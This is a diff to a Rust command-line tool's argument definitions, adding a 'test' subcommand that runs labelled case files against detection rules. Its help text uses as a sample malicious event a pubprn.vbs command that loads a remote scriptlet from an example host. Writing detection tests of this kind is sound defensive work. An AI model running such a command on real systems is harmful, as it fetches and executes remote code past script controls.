@@ -21,7 +21,7 @@ const EXIT_CODES: &str = "\
 Example:
   echo 'cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' | cutout eval -
 
-Exit codes: 0 = ran, 1 = findings when --fail-on asks, 2 = could not run, or not on all of the input.
+Exit codes: 0 = ran, 1 = findings when --fail-on asks, or a broken case, 2 = could not run, or not on all of the input.
 Nothing leaves this machine: cutout opens no network connection.";
 
 #[derive(Debug, Subcommand)]
@@ -32,6 +32,7 @@ pub enum Command {
     Guide(Guide),
     Suggest(Suggest),
     Evade(Evade),
+    Test(Test),
     Reach(crate::reach::args::Reach),
 }
 
@@ -279,6 +280,41 @@ pub struct Suggest {
     /// Print JSON, one object a line
     #[arg(long)]
     pub json: bool,
+}
+
+/// Run case files: labelled events, and what rules have to say of them
+///
+/// A malicious event has to be matched by a rule, a benign one by none, and what a case expects of
+/// single rules has to hold. The tables count a rule's matches on malicious (TP) and benign (FP)
+/// events, what it misses (FN) and leaves alone (TN), and the events for which it can't tell.
+#[derive(Debug, clap::Args)]
+#[command(after_help = "\
+Example:
+  printf '%s\\n' 'cutout-cases: 1' 'cases:' '  - name: a remote scriptlet' '    label: malicious' \\
+    '    events: cscript .\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct' > cases.yml
+  cutout test cases.yml                          exit 0 where all holds, 1 where a case is broken
+  cutout test --junit report.xml tests/          every case file beneath, and a report for CI
+  cutout test --rules rules/ regression_data/    SigmaHQ's regression folders, by their info.yml
+  cutout test --export folders/ cases.yml        the cases as such folders
+
+The rules are those the case file names, the pack t1216 where it names none, or those of --rules and
+--pack. docs/cases.md is the reference of the format. Exit codes: 0 = all holds, 1 = a case is
+broken, 2 = a case could not be run.")]
+pub struct Test {
+    /// Case files, info.yml files of regression folders, or folders of either
+    #[arg(required = true, value_name = "CASES")]
+    pub cases: Vec<PathBuf>,
+    #[command(flatten)]
+    pub choice: Choice,
+    /// Print JSON, one object a case file
+    #[arg(long)]
+    pub json: bool,
+    /// Write a JUnit report
+    #[arg(long, value_name = "FILE")]
+    pub junit: Option<PathBuf>,
+    /// Write the cases that rules match as regression folders, one a rule, into this folder
+    #[arg(long, value_name = "FOLDER")]
+    pub export: Option<PathBuf>,
 }
 
 /// Where `suggest --apply` puts an exclusion.
